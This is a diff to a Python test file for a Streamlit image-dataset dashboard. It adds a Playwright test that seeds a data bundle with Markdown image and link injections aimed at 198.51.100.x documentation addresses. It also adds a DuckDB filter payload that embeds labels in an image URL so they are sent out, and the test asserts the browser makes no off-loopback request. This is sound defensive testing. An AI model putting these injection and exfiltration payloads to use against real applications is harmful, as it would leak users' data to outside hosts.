@@ -85,8 +85,14 @@ def app(bundle: Path, page: str, monkeypatch, **query):
     return at
 
 
+def shown(markdown: str) -> str:
+    """What the browser shows of Markdown whose untrusted parts the pages escaped (AppTest hands over
+    the source): the backslash escapes removed."""
+    return re.sub(r"\\(.)", r"\1", markdown)
+
+
 def texts(at) -> str:
-    return "\n".join(str(e.value) for kind in ("markdown", "caption", "subheader", "info", "error", "warning")
+    return "\n".join(shown(str(e.value)) for kind in ("markdown", "caption", "subheader", "info", "error", "warning")
                      for e in getattr(at, kind))
 
 
@@ -487,5 +493,94 @@ def test_the_grid_shows_byte_copies_that_share_an_id(bundle, monkeypatch):
               "grid(pd.DataFrame({'id': ['ab' * 32] * 3, 'path': ['a.jpg', 'copy/a.jpg', 'b/a.jpg']}), key='g')\n")
     at = AppTest.from_string(script, default_timeout=60).run()
     assert not at.exception, [e.value for e in at.exception]
-    assert len(at.button) == 3 and [c.value for c in at.caption][:3] == [
+    assert len(at.button) == 3 and [shown(c.value) for c in at.caption][:3] == [
         "(no thumbnail) a.jpg", "(no thumbnail) copy/a.jpg", "(no thumbnail) b/a.jpg"]
+
+
+HOSTILE = "![t](https:198.51.100.7)"  # a documentation address: nothing real is ever asked
+
+
+def hostile_copy(bundle: Path, dest: Path) -> dict[str, str]:
+    """The bundle with names an attacker chose: folders, files, labels, reasons, drift segments and
+    the dataset card carry Markdown images and links to 198.51.100.x. Returns ids to open."""
+    shutil.copytree(bundle, dest)
+    manifest = pq.read_table(dest / "manifest.parquet").to_pandas()
+    issues = pq.read_table(dest / "issues.parquet").to_pandas()
+    ledger = pq.read_table(dest / "curation.parquet").to_pandas()
+    evil = {p: f"{HOSTILE}/{i}-[l](https:198.51.100.8).jpg" for i, p in enumerate(manifest["path"][:20])}
+    label = "![c](https:198.51.100.9)"
+    for frame in (manifest, issues, ledger):
+        hit = frame["path"].isin(list(evil))
+        frame.loc[hit, "label"] = label
+        frame["path"] = frame["path"].map(lambda p: evil.get(p, p))
+    out = ~ledger["included"]
+    ledger.loc[out, "reasons"] = "filter: ![r](https:198.51.100.10)"
+    ledger.loc[out, "first_reason"] = "![f](https:198.51.100.11)"
+    for frame, name in ((manifest, "manifest"), (issues, "issues"), (ledger, "curation")):
+        pq.write_table(pa.Table.from_pandas(frame, preserve_index=False), dest / f"{name}.parquet")
+    summary = json.loads((dest / "summary.json").read_text())
+    summary["curated"]["excluded_by_first_reason"] = {"![f](https:198.51.100.11)": int(out.sum())}
+    (dest / "summary.json").write_text(json.dumps(summary))
+    drift = pq.read_table(dest / "drift.parquet").to_pandas()
+    drift["segment"] = f"label={label}"
+    pq.write_table(pa.Table.from_pandas(drift, preserve_index=False), dest / "drift.parquet")
+    card = dest / "card.md"
+    card.write_text(card.read_text() + "\n![card](http://198.51.100.12/c.png) [more](http://198.51.100.13/)\n")
+    return {"image": manifest["id"][0][:16]}
+
+
+@pytest.mark.slow
+def test_hostile_names_a_hostile_filter_and_a_hostile_card_fetch_nothing_off_loopback(bundle, tmp_path):
+    """Text from the data or the URL was rendered as Markdown: a folder named ![t](https:HOST) on the
+    Compare, Images, Issues and Curated pages, or a filter whose DuckDB error() message carries the
+    labels, made the browser fetch from HOST. Every off-loopback request is aborted and counted."""
+    import os
+    import subprocess
+    from urllib.parse import quote, urlparse
+
+    from playwright.sync_api import sync_playwright
+
+    from pixelscope.cli.dashboard import streamlit_command
+
+    if not CHROMIUM.exists():
+        pytest.skip("Debian's chromium is not installed (apt-get install -y chromium; .ci/run does it)")
+    evil = tmp_path / "hostile"
+    ids = hostile_copy(bundle, evil)
+    port = free_port()
+    proc = subprocess.Popen(streamlit_command(port), env={**os.environ, "PIXELSCOPE_BUNDLE": str(evil)},
+                            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+    served = f"http://127.0.0.1:{port}"
+    offsite: list[str] = []
+
+    def guard(route):
+        host = urlparse(route.request.url).hostname
+        if host in ("127.0.0.1", "localhost"):
+            route.continue_()
+        else:
+            offsite.append(route.request.url)
+            route.abort()
+
+    leak = quote("error('![x](http://198.51.100.14/' || (SELECT string_agg(DISTINCT label, '-') FROM images) || '.png)')")
+    try:
+        assert wait_healthy(served), "streamlit did not start"
+        with sync_playwright() as p:
+            browser = p.chromium.launch(executable_path=str(CHROMIUM), args=["--no-sandbox"])
+            page = browser.new_page(viewport={"width": 1400, "height": 1000})
+            page.route("**/*", guard)
+            visits = [f"{name}" if name != "overview" else "" for name in PAGES]
+            visits += [f"images?where={leak}", f"images?image={ids['image']}",
+                       f"compare?a={quote('another bundle or profile file…')}&a_path={quote(HOSTILE)}"]
+            for path in visits:
+                page.goto(f"{served}/{path}")
+                finished(page)
+                assert page.locator("[data-testid='stException']").count() == 0, path
+            body = page.inner_text("body")
+            page.goto(f"{served}/images?where={leak}")
+            finished(page)
+            assert "is not a valid filter" in page.inner_text("body") or "198.51.100.14" in page.inner_text("body")
+            browser.close()
+    finally:
+        proc.terminate()
+        proc.wait(timeout=20)
+    assert offsite == [], offsite
+    assert "198.51.100.7" in body or "not a bundle folder" in body  # the hostile text is shown, as text
